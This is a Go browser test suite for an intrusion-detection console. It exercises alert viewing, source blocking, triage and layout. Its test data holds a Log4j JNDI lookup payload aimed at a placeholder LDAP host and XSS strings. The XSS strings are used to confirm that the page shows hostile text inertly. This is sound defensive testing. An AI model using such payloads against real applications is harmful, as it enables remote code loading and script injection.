package web_test

import (
	"context"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/heapprofiler"
	"github.com/chromedp/cdproto/input"
	cdplog "github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

const artifacts = "../test/artifacts" // git-ignored; CI keeps it

// One browser goes through all stories; each has a collector of its own.
func TestConsole(t *testing.T) {
	b := startBrowser(t)
	for _, story := range []struct {
		name string
		run  func(t *testing.T, b *browser)
	}{
		{"Lab", testLab},
		{"AnalystSeesBlocksAndUndoes", testAnalystSeesBlocksAndUndoes},
		{"IncidentsKillSwitchAndSettings", testIncidentsKillSwitchAndSettings},
		{"SignInAndRoles", testSignInAndRoles},
		{"OpenID", testOpenID},
		{"Approvals", testApprovals},
		{"FeedsAndExports", testFeedsAndExports},
		{"Triage", testTriage},
		{"PolicyRefusesInTheDialog", testPolicyRefusesInTheDialog},
		{"HostileTextIsInert", testHostileTextIsInert},
		{"Accessible", testAccessible},
		{"Widths", testWidths},
		{"Phone", testPhone},
		{"URLHoldsTheState", testURLHoldsTheState},
		{"FloodOfAlerts", testFloodOfAlerts},
	} {
		t.Run(story.name, func(t *testing.T) {
			b.fresh(t)
			story.run(t, b)
		})
	}
}

// fresh leaves nothing of the story before.
func (b *browser) fresh(t *testing.T) {
	t.Helper()
	b.do(t, "away", navigate("about:blank"))
	b.do(t, "size", chromedp.EmulateViewport(1440, 900))
	b.mu.Lock()
	defer b.mu.Unlock()
	b.errs = nil
}

// browser is a tab of a fresh Chromium, and what went wrong in it.
type browser struct {
	ctx  context.Context
	mu   sync.Mutex
	errs []string
}

func startBrowser(t *testing.T) *browser {
	t.Helper()
	path, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("chromium is not installed: apt-get install chromium")
	}
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(path), chromedp.UserDataDir(t.TempDir()), chromedp.WindowSize(1440, 900),
		chromedp.Flag("disable-gpu", true), chromedp.Flag("disable-quic", true), chromedp.Flag("no-first-run", true),
		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true), chromedp.Flag("no-sandbox", os.Geteuid() == 0))
	alloc, stop := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancel := chromedp.NewContext(alloc)
	b := &browser{ctx: ctx}
	t.Cleanup(func() {
		chromedp.Cancel(ctx)
		cancel()
		stop()
	})
	if err := chromedp.Listen(ctx, b.listen); err != nil {
		t.Fatal(err)
	}
	b.do(t, "listen to the log", chromedp.Func(func(ctx context.Context, tab *chromedp.Target) error {
		_, err := cdp.Call(ctx, tab, cdplog.Enable, cdp.Empty{})
		return err
	}))
	return b
}

// listen takes note of exceptions, errors and violations of the page's policy.
func (b *browser) listen(ev any) {
	var text string
	switch e := ev.(type) {
	case *runtime.EventExceptionThrown:
		text = e.ExceptionDetails.Text
		if x := e.ExceptionDetails.Exception; x != nil {
			text += " " + x.Description
		}
	case *cdplog.EventEntryAdded:
		if e.Entry.Level == cdplog.EntryLevelError {
			text = e.Entry.Text + " " + e.Entry.URL
		}
	case *page.EventJavascriptDialogOpening:
		text = "the page opened a dialog: " + e.Message
	}
	if text != "" {
		b.mu.Lock()
		b.errs = append(b.errs, text)
		b.mu.Unlock()
	}
}

type action = chromedp.Action[chromedp.Void]

// networkChanged is what Chromium says of connections that it gives up because an interface of the host came or went.
const networkChanged = "ERR_NETWORK_CHANGED"

// patience is how long anything on the page may take on a busy machine.
const patience = 40 * time.Second

func (b *browser) do(t *testing.T, what string, actions ...action) {
	t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, patience)
	defer cancel()
	if err := chromedp.Do(ctx, actions...); err != nil {
		b.fail(t, what, err)
	}
}

// navigate opens a page, and begins again when Chromium gives up because an interface of the host came or went, as other tests' do. It
// waits until the page is there, not for all that it loads.
func navigate(url string) action {
	return chromedp.Func(func(ctx context.Context, tab *chromedp.Target) error {
		for {
			r, err := cdp.Call(ctx, tab, page.Navigate, page.NavigateParams{URL: url})
			if err != nil {
				return err
			}
			if r.ErrorText == "" {
				break
			}
			if !strings.Contains(r.ErrorText, networkChanged) {
				return fmt.Errorf("open %s: %s", url, r.ErrorText)
			}
			time.Sleep(300 * time.Millisecond)
		}
		for {
			done, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`document.readyState === "complete"`))
			if done || ctx.Err() != nil {
				return ctx.Err()
			}
			if err != nil && !between(err) {
				return err
			}
			time.Sleep(10 * time.Millisecond)
		}
	})
}

// between reports whether err only says that one page goes and another comes.
func between(err error) bool {
	return strings.Contains(err.Error(), "Cannot find context") || strings.Contains(err.Error(), "target navigated")
}

func (b *browser) fail(t *testing.T, what string, err any) {
	t.Helper()
	b.shoot(t, "failed-"+strings.ReplaceAll(t.Name(), "/", "-"))
	b.mu.Lock()
	defer b.mu.Unlock()
	t.Fatalf("%s: %v\nbrowser: %s", what, err, strings.Join(b.errs, "\n"))
}

// wait waits until the expression is true in the page. (chromedp.Poll would need eval, which the page's policy forbids.)
func (b *browser) wait(t *testing.T, what, expression string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, patience)
	defer cancel()
	start := time.Now()
	for {
		done, err := chromedp.Run(ctx, chromedp.Evaluate[bool]("!!("+expression+")"))
		switch {
		case done:
			if took := time.Since(start); took > 3*time.Second {
				t.Logf("%s: after %.1f s", what, took.Seconds())
			}
			return
		case ctx.Err() != nil:
			b.fail(t, what, "not in time: "+expression)
		case err != nil && !between(err):
			b.fail(t, what, err)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func (b *browser) eval(t *testing.T, expression string) string {
	t.Helper()
	text, err := chromedp.Run(b.ctx, chromedp.Evaluate[string]("String("+expression+")"))
	if err != nil {
		b.fail(t, expression, err)
	}
	return text
}

// await is the value that a promise of the page comes to.
func (b *browser) await(t *testing.T, expression string) string {
	t.Helper()
	b.eval(t, `(window.awaited_ = "", `+expression+`.then((x) => { window.awaited_ = "=" + x; }), 0)`)
	b.wait(t, expression, `window.awaited_`)
	return b.eval(t, `window.awaited_.slice(1)`)
}

// key presses a key as a keyboard does for a page that handles it: a char event that followed regardless would land in
// whatever field the key gave the focus to.
func (b *browser) key(t *testing.T, key string) {
	t.Helper()
	for _, r := range key {
		for _, ev := range kb.Encode(r) {
			if ev.Type == input.DispatchKeyEventTypeChar {
				continue
			}
			b.do(t, "key "+key, chromedp.Func(func(ctx context.Context, tab *chromedp.Target) error {
				_, err := cdp.Call(ctx, tab, input.DispatchKeyEvent, *ev)
				return err
			}))
		}
	}
}

// shoot keeps a picture of what is seen.
func (b *browser) shoot(t *testing.T, name string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, patience)
	defer cancel()
	png, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
	if err != nil {
		t.Errorf("screenshot %s: %v", name, err)
		return
	}
	if err := os.MkdirAll(artifacts, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(artifacts, "console-"+name+".png"), png, 0o644); err != nil {
		t.Fatal(err)
	}
}

// phone makes the tab one of 390 × 844 points.
func (b *browser) phone(t *testing.T) {
	t.Helper()
	b.do(t, "resize", chromedp.EmulateViewport(390, 844, chromedp.EmulateMobile, chromedp.EmulateTouch, chromedp.EmulatePortrait,
		func(m *emulation.SetDeviceMetricsOverrideParams, _ *emulation.SetTouchEmulationEnabledParams) {
			m.DeviceScaleFactor = 2
		}))
}

// scheme is what the system prefers: dark or light.
func (b *browser) scheme(t *testing.T, scheme string) {
	t.Helper()
	b.do(t, "colour scheme", chromedp.Func(func(ctx context.Context, tab *chromedp.Target) error {
		_, err := cdp.Call(ctx, tab, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
			Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}},
		})
		return err
	}), chromedp.Sleep(250*time.Millisecond))
}

// Rows of the list whose signature says so.
func rows(text string) string {
	return fmt.Sprintf(`[...document.querySelectorAll("#alerts .row")].filter((r) => r.querySelector(".sig").textContent.includes(%q))`, text)
}

// The story of an analyst: sees an attack, looks closer, previews, blocks, watches the drops, undoes it.
func testAnalystSeesBlocksAndUndoes(t *testing.T, b *browser) {
	w := startWorld(t)
	w.past(900, time.Hour)
	w.past(1500, 0)
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	b.scheme(t, "light")
	b.do(t, "open", navigate(w.url+"?view=alerts"))
	b.wait(t, "live", `document.querySelector(".state.live")`)
	b.wait(t, "history", `document.querySelectorAll("#alerts .row").length > 10`)
	b.wait(t, "sensors", `document.querySelectorAll("[data-sensor]").length === 3`)

	w.putRules(t, `alert http any any -> any any (msg:"other"; content:"x"; sid:20346470; rev:1;)
alert http any any -> any any (msg:"ET EXPLOIT Apache log4j RCE Attempt"; content:"jndi"; sid:2034647; rev:3;)
`)
	log4j := attacks[5]
	attacker := netip.MustParseAddr("203.0.113.77")
	before := time.Now()
	w.sensors[0].raise(log4j, attacker, before, false)
	w.sensors[0].raise(attacks[4], attacker, before.Add(-2*time.Millisecond), false)
	b.wait(t, "the alert shows", rows("log4j")+`.some((r) => r.textContent.includes("203.0.113.77"))`)
	t.Logf("alert seen in the browser %s after it was raised", time.Since(before).Round(time.Millisecond))
	if d := time.Since(before); d > 2*time.Second {
		t.Errorf("alert took %s to show", d)
	}

	go w.live(ctx, 12)
	time.Sleep(4 * time.Second)
	b.shoot(t, "alerts-light")

	// Filter, by key.
	b.key(t, "/")
	b.do(t, "type a filter", chromedp.KeyEvent("src:203.0.113.77"+kb.Enter))
	b.wait(t, "filtered", `document.querySelectorAll("#alerts .row").length > 0 && [...document.querySelectorAll("#alerts .row .src")].every((s) => s.textContent.startsWith("203.0.113.77"))`)
	if url := b.eval(t, "location.search"); !strings.Contains(url, "q=src") {
		t.Errorf("the URL %s does not hold the filter", url)
	}

	// Open it, by key; look at the payload.
	b.key(t, "j")
	b.key(t, kb.Enter)
	b.wait(t, "detail", `document.querySelector(".detail h2")?.textContent.includes("log4j")`)
	b.wait(t, "payload", `document.querySelector("[data-testid=payload]")?.textContent.includes("\${jndi:ldap://198.51.100.9:1389/a}")`)
	b.wait(t, "rule", `[...document.querySelectorAll(".detail pre")].some((p) => p.textContent.startsWith("alert http any any") && p.textContent.includes("sid:2034647;"))`)
	b.wait(t, "what the rule looks for is marked", `document.querySelector("[data-testid=payload] mark")?.textContent === "jndi" && [...document.querySelectorAll(".detail pre mark")].some((m) => m.textContent === '"jndi"')`)
	b.wait(t, "the flow's other alert", `document.querySelectorAll(".same-flow li").length === 2 && document.querySelector(".same-flow").textContent.includes("id check")`)
	b.wait(t, "its packet", `document.querySelector(".payload-head a[download]").getAttribute("href").endsWith("/packet")`)
	b.shoot(t, "detail-light")
	b.do(t, "hex", chromedp.Click(`//button[text()="Hex"]`))
	b.wait(t, "marked in hex and text", `[...document.querySelectorAll(".payload.hex mark")].map((m) => m.textContent).join() .startsWith("6a 6e 64 69,jndi")`)
	b.shoot(t, "detail-hex-light")

	// Block its source, after seeing what that would hit.
	b.key(t, "b")
	b.wait(t, "dialog", `document.querySelector("dialog[open] #f-src")?.value === "203.0.113.77"`)
	b.wait(t, "preview", `/^2alerts /.test(document.querySelector("[data-testid=preview] dl")?.textContent) && document.querySelector("[data-testid=preview]").textContent.includes("3sensors")`)
	b.shoot(t, "block-light")
	b.do(t, "block", chromedp.Click("dialog[open] footer .danger"))
	b.wait(t, "verdict listed", `[...document.querySelectorAll("[data-verdict] .match")].some((m) => m.textContent === "203.0.113.77")`)
	b.wait(t, "on all sensors", `document.querySelector("[data-verdict]").textContent.includes("on 3 of 3 sensors")`)
	b.do(t, "close the alert", chromedp.KeyEvent(kb.Escape))
	for _, s := range w.sensors {
		if s.traffic(attacker, 1200) {
			t.Errorf("%s let the blocked source through", s.id)
		}
	}
	b.wait(t, "hits", `document.querySelector("[data-verdict] .hits").textContent.includes("3,600 packets")`)
	b.do(t, "clear the filter", chromedp.Click(`[aria-label="Clear the filter"]`))
	b.wait(t, "all alerts again", `document.querySelectorAll("#alerts .row").length > 10`)
	time.Sleep(3500 * time.Millisecond)
	b.shoot(t, "verdict-light")
	b.scheme(t, "dark")
	b.shoot(t, "verdict-dark")

	b.key(t, kb.Escape+"4") // out of the field first
	b.wait(t, "verdicts alone", `document.querySelector(".verdict-page tbody tr")?.textContent.includes("on 3 of 3 sensors")`)
	b.eval(t, `(() => { const s = document.querySelector(".verdict-page .extend select"); s.value = "86400"; s.dispatchEvent(new Event("change", { bubbles: true })); })()`)
	b.wait(t, "it lasts longer", `/23 h 59 min|1 d/.test(document.querySelector(".verdict-page tbody tr").textContent) && document.querySelector(".verdict-page").textContent.includes("removed")`)
	if w.sensors[0].traffic(attacker, 800) {
		t.Error("while its verdict was made longer the source got through")
	}
	b.do(t, "look closer", chromedp.Click(".verdict-page tbody tr .match"))
	b.wait(t, "its evidence", `document.querySelector(".verdict-more")?.textContent.includes("2034647")`)
	b.wait(t, "hits over time", `document.querySelector(".verdict-page tbody tr .spark")`)
	b.wait(t, "a way back behind it", `document.querySelector('.verdict-more [aria-label^="Roll back to before"]')`)
	b.shoot(t, "verdicts-view-dark")
	b.scheme(t, "light")
	b.shoot(t, "verdicts-view-light")
	b.scheme(t, "dark")
	b.key(t, "3")
	b.do(t, "help", chromedp.Click(`[aria-label="Filter help"]`))
	b.shoot(t, "help-dark")
	b.do(t, "help away", chromedp.Click(`[aria-label="Filter help"]`))

	// Undo, and undo the undoing.
	b.do(t, "remove", chromedp.Click(`[data-verdict] button[aria-label^="Remove the verdict on 203.0.113.77"]`))
	b.wait(t, "removed", `!document.querySelector(".cards:not(.faded) [data-verdict]") && document.querySelector(".toasts").textContent.includes("Removed the verdict on 203.0.113.77")`)
	passes := func() bool { return w.sensors[1].traffic(attacker, 1) }
	waitFor(t, "traffic passes again", passes)
	b.do(t, "undo", chromedp.Click(`//div[contains(@class,"toast")][span[contains(text(),"Removed")]]/button[text()="Undo"]`))
	b.wait(t, "blocked again", `document.querySelector(".cards:not(.faded) [data-verdict] .match")?.textContent === "203.0.113.77"`)
	waitFor(t, "traffic is dropped again", func() bool { return !passes() })
	overview(t, b)

	b.noErrors(t)
}

// overview: what happens now is seen at once, and one click leads to it.
func overview(t *testing.T, b *browser) {
	b.scheme(t, "light")
	b.key(t, "1")
	b.wait(t, "drops by reason", `document.querySelectorAll(".overview-plot canvas").length === 2 && document.querySelectorAll(".overview-plot")[1].textContent.includes("SYN flood")`)
	b.wait(t, "signatures", `document.querySelectorAll(".rank")[0].querySelectorAll("li").length >= 6`)
	b.wait(t, "traffic", `[...document.querySelectorAll(".overview-fleet tbody tr")].filter((r) => r.querySelector(".spark")).length === 3`)
	b.shoot(t, "overview-light")
	b.scheme(t, "dark")
	b.shoot(t, "overview-dark")
	b.key(t, "5")
	b.wait(t, "the fleet", `document.querySelectorAll(".fleet-table tbody tr").length === 3 && document.querySelectorAll(".fleet-table .spark").length === 6`)
	b.shoot(t, "fleet-dark")
	b.key(t, "1")
	b.wait(t, "overview again", `document.querySelectorAll(".overview-plot canvas").length === 2`)
	b.phone(t)
	b.do(t, "settle", chromedp.Sleep(400*time.Millisecond))
	b.shoot(t, "overview-phone")
	if over := b.eval(t, `document.documentElement.scrollWidth > innerWidth`); over != "false" {
		t.Error("the overview is wider than the phone")
	}
	b.do(t, "size", chromedp.EmulateViewport(1440, 900))
	b.do(t, "the busiest source", chromedp.Click(`.rank:nth-child(2) li button`))
	b.wait(t, "its alerts", `/view=alerts.*q=src/.test(location.search) && document.querySelectorAll("#alerts .row").length > 3`)
}

func waitFor(t *testing.T, what string, done func() bool) {
	t.Helper()
	for end := time.Now().Add(patience); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		if done() {
			return
		}
	}
	t.Errorf("not in time: %s", what)
}

func (b *browser) noErrors(t *testing.T) {
	t.Helper()
	b.mu.Lock()
	defer b.mu.Unlock()
	for _, e := range b.errs {
		if strings.Contains(e, networkChanged) || strings.Contains(e, "status of 422") { // the server says what is wrong with what was typed; Chromium calls that an error
			continue
		}
		t.Errorf("browser: %s", e)
	}
}

func testPolicyRefusesInTheDialog(t *testing.T, b *browser) {
	w := startWorld(t)
	b.scheme(t, "dark")
	b.do(t, "open", navigate(w.url+"?view=alerts"))
	b.wait(t, "empty list teaches", `document.querySelector("#alerts .empty")?.textContent.includes("No alerts yet")`)
	b.wait(t, "sensors", `document.querySelectorAll("[data-sensor]").length === 3`)
	b.shoot(t, "empty-dark")
	b.key(t, "1")
	b.wait(t, "an empty overview teaches", `document.querySelector(".overview .plot-bare")?.textContent.includes("When a sensor sees traffic")`)
	b.shoot(t, "overview-empty")
	b.key(t, "n")
	b.wait(t, "dialog", `document.querySelector("dialog[open] #f-src") === document.activeElement`)
	b.do(t, "type", chromedp.KeyEvent("169.254.169.254"))
	b.wait(t, "refusal", `document.querySelector("[data-testid=preview] .problem")?.textContent.includes("never blocked") && document.querySelector("dialog footer .danger").disabled`)
	b.shoot(t, "refused-dark")
	b.eval(t, `document.querySelector("#f-src").select()`)
	b.do(t, "another", chromedp.KeyEvent("10.0.0.1/8"))
	b.wait(t, "field error", `document.querySelector(".field.bad")?.textContent.includes("10.0.0.0/8 is the network")`)
	b.key(t, kb.Escape)
	b.wait(t, "closed", `!document.querySelector("dialog")`)
	b.key(t, "?")
	b.wait(t, "keys", `document.querySelector("dialog.keys[open]")`)
	b.shoot(t, "keys-dark")
	// A refusal that only the server finds is a 4xx, which Chromium logs as an error: that is expected here.
}

// Whatever packets and rules contain is shown as text.
func testHostileTextIsInert(t *testing.T, b *browser) {
	w := startWorld(t)
	b.do(t, "open", navigate(w.url+"?view=alerts"))
	b.wait(t, "live", `document.querySelector(".state.live")`)
	w.sensors[0].raise(hostile, netip.MustParseAddr("203.0.113.66"), time.Now(), false)
	b.wait(t, "row", rows("<img src=x onerror=")+`.length === 1`)
	b.key(t, "j")
	b.key(t, kb.Enter)
	b.wait(t, "payload", `document.querySelector("[data-testid=payload]")?.textContent.includes("<script>window.pwned=3</script>")`)
	b.do(t, "hex", chromedp.Click(`//button[text()="Hex"]`))
	b.wait(t, "hex dump", `document.querySelector(".payload.hex")?.textContent.startsWith("0000  47 45 54 20")`)
	time.Sleep(300 * time.Millisecond)
	for expression, want := range map[string]string{
		`window.pwned`: "undefined",
		`document.querySelectorAll("img, script:not([src='/app.js']), [onerror], [onload], b > b").length`: "0",
		`/[\u202a-\u202e\u0000]/.test(document.body.textContent)`:                                          "false",
		`document.querySelector(".detail h2").textContent.includes("⟨202E⟩gnp.exe")`:                       "true",
	} {
		if got := b.eval(t, expression); got != want {
			t.Errorf("%s is %s, want %s", expression, got, want)
		}
	}
	b.shoot(t, "hostile")
	b.do(t, "its incident", navigate(w.url+"?view=incidents"))
	b.wait(t, "the title as text", `document.querySelector(".incident-table .title")?.textContent.includes("203.0.113.66")`)
	b.do(t, "open", chromedp.Click(".incident-table .title"))
	b.wait(t, "the signature as text", `document.querySelector(".incident-side")?.textContent.includes("<img src=x onerror=") && document.querySelector(".story").textContent.includes("<script>")`)
	w.putRules(t, `alert tcp any any -> any any (msg:"<img src=x onerror=window.pwned=5>"; content:"x"; sid:9000001; rev:1;)`+"\n")
	b.key(t, "6")
	b.wait(t, "a rule's message as text", `document.querySelector(".rule-list .name")?.textContent.startsWith("<img src=x")`)
	if got := b.eval(t, `[window.pwned, document.querySelectorAll("img, [onerror], [onload]").length]`); got != ",0" {
		t.Errorf("something got through: %s", got)
	}
	b.noErrors(t)
}

// No width makes the page scroll sideways, or hides what matters.
func testWidths(t *testing.T, b *browser) {
	w := startWorld(t)
	w.past(400, 0)
	b.do(t, "open", navigate(w.url+"?view=alerts"))
	b.wait(t, "history", `document.querySelectorAll("#alerts .row").length > 5`)
	for _, width := range []int64{1920, 1280, 1024, 834, 600, 360} {
		b.do(t, "resize", chromedp.EmulateViewport(width, 760), chromedp.Sleep(400*time.Millisecond))
		b.shoot(t, fmt.Sprintf("width-%d", width))
		if over := b.eval(t, `document.documentElement.scrollWidth > innerWidth`); over != "false" {
			t.Errorf("the page is wider than %d", width)
		}
		sig := b.eval(t, `document.querySelector("#alerts .row .sig").getBoundingClientRect().width`)
		if n, err := strconv.ParseFloat(sig, 64); err != nil || n < 120 {
			t.Errorf("at %d a signature has %s pixels", width, sig)
		}
	}
	b.noErrors(t)
}

func testPhone(t *testing.T, b *browser) {
	w := startWorld(t)
	w.past(400, 0)
	b.phone(t)
	for _, theme := range []string{"light", "dark"} {
		b.scheme(t, theme)
		b.do(t, "open", navigate(w.url+"?view=alerts"))
		b.wait(t, "history", `document.querySelectorAll("#alerts .row").length > 5`)
		b.wait(t, "timeline", `document.querySelector(".plot canvas")`)
		time.Sleep(600 * time.Millisecond)
		b.shoot(t, "phone-alerts-"+theme)
		if over := b.eval(t, `document.documentElement.scrollWidth > innerWidth`); over != "false" {
			t.Errorf("%s: the page is wider than the phone", theme)
		}
	}
	b.do(t, "open an alert", chromedp.Click("#alerts .row:nth-child(3)"))
	b.wait(t, "detail", `document.querySelector(".detail h2")`)
	time.Sleep(300 * time.Millisecond)
	b.shoot(t, "phone-detail")
	b.do(t, "block", chromedp.Click(".detail .danger"))
	b.wait(t, "preview", `document.querySelector("[data-testid=preview] dl")`)
	b.shoot(t, "phone-block")
	b.do(t, "block", chromedp.Click("dialog[open] footer .danger"))
	b.wait(t, "done", `!document.querySelector("dialog[open]")`)
	b.do(t, "back", chromedp.Click(".detail .close"), chromedp.Click(`.tabbar [data-view="verdicts"]`))
	b.wait(t, "verdict", `document.querySelector("[data-verdict]")`)
	time.Sleep(300 * time.Millisecond)
	b.shoot(t, "phone-verdicts")
	b.do(t, "more", chromedp.Click(`.tabbar .more-tab`))
	b.wait(t, "the other tabs", `document.querySelector(".more-tabs [data-view=sensors]")`)
	b.shoot(t, "phone-more")
	b.do(t, "sensors", chromedp.Click(`.more-tabs [data-view="sensors"]`))
	b.wait(t, "sensors", `document.querySelectorAll("[data-sensor]").length === 3`)
	b.shoot(t, "phone-sensors")
	b.noErrors(t)
}

// The state is in the URL: a link brings back what was seen, and the back button goes back.
func testURLHoldsTheState(t *testing.T, b *browser) {
	w := startWorld(t)
	w.past(300, 0)
	b.do(t, "open", navigate(w.url+"?q=severity%3A1&span=6h&paused=1")) // while alerts still arrive
	b.wait(t, "painted", `performance.getEntriesByName("first-contentful-paint").length`)
	paint, err := strconv.ParseFloat(b.eval(t, `performance.getEntriesByName("first-contentful-paint")[0].startTime`), 64)
	if t.Logf("first paint after %.0f ms", paint); err != nil || paint > 2500 { // 500 on a quiet machine
		t.Errorf("first paint took %.0f ms", paint)
	}
	b.wait(t, "restored", `document.querySelector(".state.paused") && document.querySelector(".search input").value === "severity:1" && document.querySelector('.segments [aria-pressed=true]').textContent === "6 h"`)
	b.wait(t, "filtered", `document.querySelectorAll("#alerts .row").length > 0 && [...document.querySelectorAll("#alerts .row .sev")].every((s) => s.textContent === "1")`)
	b.do(t, "another view", chromedp.Click(`.bar [data-view="sensors"]`))
	b.wait(t, "sensors", `location.search.includes("view=sensors") && document.querySelector(".fleet-table")`)
	b.do(t, "back", chromedp.NavigateBack())
	b.wait(t, "alerts again", `document.querySelector("#alerts") && !location.search.includes("view=sensors")`)
	b.do(t, "clear", navigate(w.url+"?view=alerts"))
	b.wait(t, "all", `document.querySelectorAll("#alerts .row").length > 10 && document.querySelector(".plot canvas")`)
	if n := b.eval(t, `document.querySelectorAll("#alerts .row").length`); len(n) > 2 {
		t.Errorf("%s rows are in the page: the list is not virtual", n)
	}
	b.wait(t, "newest first, though sensors sent them in no order", `((times) => times.every((x, i) => i === 0 || times[i-1] >= x))([...document.querySelectorAll("#alerts .time")].slice(0, 10).map((e) => e.textContent))`)
	b.eval(t, `document.querySelector("#alerts").scrollTo(0, 1e6)`)
	b.wait(t, "older ones", `+document.querySelector("#alerts").getAttribute("aria-rowcount") === 300`)
	b.do(t, "brush", chromedp.DragAndDropXY(300, 230, 700, 230, 8))
	b.wait(t, "looking back", `document.querySelector(".state.past") && /since=.*until=/.test(location.search)`)
	b.wait(t, "fewer", `(n => n > 10 && n < 300)(+document.querySelector("#alerts").getAttribute("aria-rowcount"))`)
	b.shoot(t, "brushed")
	b.do(t, "back to live", chromedp.Click(`.filter .back`))
	b.wait(t, "live", `document.querySelector(".state.live") && location.search === "?view=alerts"`)
	b.do(t, "nonsense", navigate(w.url+"?q=colour%3Ared"))
	b.wait(t, "explained", `document.querySelector(".problem mark")?.textContent === "colour" && document.querySelector(".problem").textContent.includes("there is no field")`)
	b.noErrors(t)
}

// At 10,000 alerts a second the page stays smooth and small, and says how many it does not list.
func testFloodOfAlerts(t *testing.T, b *browser) {
	w := startWorld(t)
	b.do(t, "open", navigate(w.url+"?view=alerts"))
	b.wait(t, "live", `document.querySelector(".state.live")`)
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	go w.live(ctx, 10_000)
	b.wait(t, "flood is seen", `document.querySelector(".filter .note")`)
	time.Sleep(2 * time.Second)
	b.eval(t, `(() => { window.frames_ = 0; window.start_ = performance.now(); const f = () => { window.frames_++; requestAnimationFrame(f); }; requestAnimationFrame(f); })()`)
	time.Sleep(5 * time.Second)
	fps := b.eval(t, `(1000 * frames_ / (performance.now() - start_)).toFixed(1)`)
	rate := b.eval(t, `document.querySelector(".state .rate").textContent`)
	b.do(t, "collect garbage", chromedp.Func(func(ctx context.Context, tab *chromedp.Target) error {
		_, err := cdp.Call(ctx, tab, heapprofiler.CollectGarbage, cdp.Empty{})
		return err
	}))
	heap := b.eval(t, `(performance.memory.usedJSHeapSize / 1048576).toFixed(1)`)
	t.Logf("%s alerts seen: %s frames/s, heap %s MB, %s", rate, fps, heap, b.eval(t, `document.querySelector(".filter .note").textContent`))
	b.shoot(t, "flood")
	if n, err := strconv.ParseFloat(heap, 64); err != nil || n > 32 {
		t.Errorf("heap is %s MB, at most 32", heap)
	}
	if n, err := strconv.ParseFloat(fps, 64); err != nil || n < 20 {
		t.Errorf("%s frames a second: not smooth even for a busy machine", fps)
	}
	b.noErrors(t)
}

// The story of a queue: find by query, group, mark, archive, undo, escalate in bulk, suppress, and find it all written down.
func testTriage(t *testing.T, b *browser) {
	w := startWorld(t)
	w.past(600, 0)
	b.scheme(t, "light")
	b.do(t, "open", navigate(w.url+"?view=alerts"))
	b.wait(t, "history", `+document.querySelector("#alerts")?.getAttribute("aria-rowcount") >= 200`)
	b.wait(t, "all stored", `document.querySelector(".tile dd").textContent === "600"`)

	// The query completes itself.
	b.key(t, "/")
	b.do(t, "a field", chromedp.KeyEvent("sev"))
	b.wait(t, "fields", `document.querySelector("#choices li .mono")?.textContent === "severity:"`)
	b.do(t, "take it, and a value", chromedp.KeyEvent(kb.Tab), chromedp.KeyEvent("1 -app:"))
	b.wait(t, "values", `[...document.querySelectorAll("#choices li")].some((c) => c.textContent.startsWith("-app:http"))`)
	b.do(t, "another", chromedp.KeyEvent("dns sid:log"))
	b.wait(t, "a signature by its words", `document.querySelector("#choices li")?.textContent.startsWith("sid:2034647")`)
	b.shoot(t, "complete-light")
	b.do(t, "take it", chromedp.KeyEvent(kb.ArrowDown), chromedp.KeyEvent(kb.Enter), chromedp.KeyEvent(kb.Enter))
	b.wait(t, "found", `location.search.includes("sid%3A2034647") && document.querySelectorAll("#alerts .row").length > 2 && [...document.querySelectorAll("#alerts .sig")].every((s) => s.textContent.includes("log4j"))`)
	b.do(t, "keep the search", chromedp.Click(`[aria-label="Keep this search"]`))
	b.wait(t, "kept", `document.querySelector('[aria-label="Keep this search"][aria-pressed=true]')`)
	if kept := w.call(t, "GET", "api/v1/searches", nil, 200); !strings.Contains(kept, "sid:2034647") || !strings.Contains(kept, `"owner":"ana"`) {
		t.Errorf("the collector keeps %s", kept)
	}

	// Mark two and archive them, and take it back.
	total := b.eval(t, `document.querySelector("#alerts").getAttribute("aria-rowcount")`)
	b.key(t, kb.Escape+"jxx")
	b.wait(t, "two marked", `document.querySelector(".marked b")?.textContent === "2 marked"`)
	b.shoot(t, "marked-light")
	b.key(t, "e")
	b.wait(t, "two less", fmt.Sprintf(`+document.querySelector("#alerts").getAttribute("aria-rowcount") === %s - 2 && !document.querySelector(".marked")`, total))
	b.do(t, "undo", chromedp.Click(`//div[contains(@class,"toast")]/button[text()="Undo"]`))
	b.wait(t, "back", fmt.Sprintf(`+document.querySelector("#alerts").getAttribute("aria-rowcount") === %s`, total))

	// Everything that matches.
	b.key(t, "jx")
	b.do(t, "all", chromedp.Click(`.marked .ghost`))
	b.wait(t, "the dialog counts", fmt.Sprintf(`document.querySelector("dialog[open] .caution")?.textContent.includes("about %s alerts")`, total))
	b.do(t, "decide", chromedp.Click(`//label[text()="Escalate"]`), chromedp.SendKeys("#f-assignee", "bo"), chromedp.SendKeys("#f-comment", "Is the shop patched?"))
	b.shoot(t, "triage-light")
	b.do(t, "go", chromedp.Click("dialog[open] footer .accent"))
	b.wait(t, "escalated", `[...document.querySelectorAll("#alerts .row")].length > 2 && [...document.querySelectorAll("#alerts .row")].every((r) => r.textContent.includes("escalated") && r.textContent.includes("bo"))`)

	// Group, and suppress a group.
	b.do(t, "another filter", navigate(w.url+"?view=alerts&group=sid"))
	b.wait(t, "groups", `document.querySelectorAll("[data-group]").length === 7`)
	b.shoot(t, "groups-light")
	b.scheme(t, "dark")
